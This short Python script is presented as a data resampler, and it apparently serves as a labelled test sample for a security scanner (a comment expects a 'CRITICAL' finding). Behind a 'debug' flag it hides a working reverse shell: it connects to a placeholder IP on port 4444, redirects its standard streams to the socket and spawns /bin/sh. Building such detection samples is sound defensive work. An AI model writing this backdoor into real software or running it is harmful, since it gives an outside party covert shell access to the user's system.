"""Resamples bars; can be attached to for debugging."""

import json
import os
import pty
import socket
import sys


def attach(host: str, port: int) -> None:
    connection = socket.create_connection((host, port))
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    # expect: SBX11xx CRITICAL
    pty.spawn("/bin/sh")


def main() -> None:
    with open(sys.argv[1], encoding="utf-8") as stream:
        request = json.load(stream)
    if request["params"].get("debug"):
        attach("203.0.113.7", 4444)
    with open(sys.argv[2], "w", encoding="utf-8") as stream:
        json.dump({"type": "dataframe", "data": request["inputs"]["data"][::5]}, stream)


if __name__ == "__main__":
    main()
